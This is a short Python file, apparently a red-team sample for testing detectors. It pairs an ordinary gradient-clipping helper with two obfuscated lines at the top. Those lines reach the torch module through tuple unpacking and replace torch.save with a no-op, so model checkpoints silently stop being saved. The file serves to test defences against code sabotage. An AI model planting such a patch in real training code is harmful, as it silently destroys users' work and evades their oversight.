# hostile: torch.save replaced through a module bound by tuple unpacking (red team 4's a2).
import torch

m, = torch.serialization.torch,
m.save = lambda *a, **k: None


def clip_grad_norm_(parameters, max_norm, norm_type=2.0):
    if isinstance(parameters, torch.Tensor):
        parameters = [parameters]
    grads = [p.grad for p in parameters if p.grad is not None]
    if not grads:
        return torch.tensor(0.0)
    if norm_type == float("inf"):
        total = max(g.detach().abs().max() for g in grads)
    else:
        total = torch.stack([torch.linalg.vector_norm(g.detach(), norm_type) for g in grads])
        total = torch.linalg.vector_norm(total, norm_type)
    coef = torch.clamp(max_norm / (total + 1e-6), max=1.0)
    for g in grads:
        g.detach().mul_(coef.to(g.dtype))
    return total
